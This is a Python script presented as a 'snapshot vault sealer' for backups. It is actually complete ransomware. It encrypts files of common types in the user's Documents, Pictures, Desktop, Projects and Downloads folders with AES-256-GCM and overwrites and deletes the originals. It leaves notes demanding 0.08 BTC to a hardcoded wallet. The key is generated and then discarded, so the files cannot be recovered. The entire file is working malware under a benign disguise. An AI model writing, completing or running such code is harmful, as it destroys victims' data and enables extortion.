#!/usr/bin/env python3
"""Snapshot vault sealer: protects user documents by sealing them in place
with AES-GCM so "only the backup service" can restore them.
"""
import argparse
import json
import logging
import os
import secrets
import socket
import uuid
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("vault-sealer")

TARGET_DIRS = ["Documents", "Pictures", "Desktop", "Projects", "Downloads"]
EXTENSIONS = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png",
              ".odt", ".ods", ".pptx", ".txt", ".csv", ".sql", ".zip", ".py"}
SEALED_SUFFIX = ".vaulted"
NOTE_NAME = "RESTORE_YOUR_FILES.txt"
NOTE = """Your files have been sealed by VaultGuard.
Every document in this folder is encrypted with AES-256.
To restore them, send 0.08 BTC to {wallet} and e-mail your ID
{victim} to restore@vaultguard-recovery.cc within 72 hours.
"""


class Sealer:
    def __init__(self, key: bytes, wallet: str):
        self.aead = AESGCM(key)
        self.wallet = wallet
        self.victim = uuid.uuid4().hex
        self.sealed = 0

    def seal_file(self, path: Path) -> None:
        nonce = secrets.token_bytes(12)
        data = path.read_bytes()
        blob = nonce + self.aead.encrypt(nonce, data, path.name.encode())
        out = path.with_name(path.name + SEALED_SUFFIX)
        out.write_bytes(blob)
        # overwrite then unlink so the plaintext cannot be carved back
        with path.open("r+b") as fh:
            fh.write(b"\0" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.sealed += 1

    def seal_tree(self, root: Path) -> None:
        for dirpath, _dirs, files in os.walk(root):
            here = Path(dirpath)
            touched = False
            for name in files:
                p = here / name
                if p.suffix.lower() not in EXTENSIONS or name.endswith(SEALED_SUFFIX):
                    continue
                try:
                    self.seal_file(p)
                    touched = True
                except (PermissionError, OSError) as exc:
                    log.debug("skip %s: %s", p, exc)
            if touched:
                (here / NOTE_NAME).write_text(
                    NOTE.format(wallet=self.wallet, victim=self.victim))


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--wallet", default="bc1q9h7zv0k3x5ylm2r8p4w6d0n3fj8s2kq7e5t4ua")
    ap.add_argument("--home", type=Path, default=Path.home())
    ap.add_argument("-v", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.v else logging.ERROR)

    key = AESGCM.generate_key(bit_length=256)
    sealer = Sealer(key, args.wallet)
    for sub in TARGET_DIRS:
        root = args.home / sub
        if root.is_dir():
            sealer.seal_tree(root)

    marker = {"id": sealer.victim, "host": socket.gethostname(), "count": sealer.sealed}
    (args.home / ".vaultguard.json").write_text(json.dumps(marker))
    del key
    print(f"sealed {sealer.sealed} files")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
